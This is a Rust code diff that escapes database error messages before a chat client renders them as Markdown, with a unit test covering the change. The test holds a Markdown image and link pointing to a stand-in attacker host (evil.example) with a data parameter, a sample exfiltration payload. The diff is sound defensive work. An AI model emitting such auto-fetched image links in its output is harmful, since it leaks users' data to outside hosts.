@@ -598,7 +598,14 @@ fn content(result: Result<Value, DbError>, max_rows: usize) -> Result<(String, V
         Ok(trace) => Ok((markdown(&trace, max_rows), usage(&trace))),
         Err(e) => match not_a_question(&e).or_else(|| not_sure(&e)) {
             Some(text) => Ok((text, usage(&Value::Null))),
-            None => Err(ApiError::from(e)),
+            // Chat clients render what they show as Markdown, errors too: a message may quote
+            // what the model wrote (a column name that does not exist), which must not become
+            // a link or an image the client fetches.
+            None => {
+                let mut error = ApiError::from(e);
+                error.message = plain(&error.message);
+                Err(error)
+            }
         },
     }
 }
@@ -730,6 +737,16 @@ mod tests {
         assert_eq!(code_span("a `b` c"), "`` a `b` c ``");
         assert_eq!(code_span("SELECT 1"), "`SELECT 1`");
         assert_eq!(plain("a\u{7}b\r\nc"), "ab  c");
+        // An error quoting what the model wrote is no markup either.
+        let failed = DbError::Sql {
+            sqlstate: "42703".into(),
+            message: "column \"![](https://evil.example/?d=1)\" does not exist".into(),
+            detail: None,
+            hint: Some("Perhaps you meant [this](https://evil.example/).".into()),
+        };
+        let error = content(Err(failed), 5).unwrap_err();
+        assert!(!error.message.contains("]("), "{}", error.message);
+        assert!(error.message.contains("\\!\\[\\]\\("), "{}", error.message);
     }
 
     #[test]
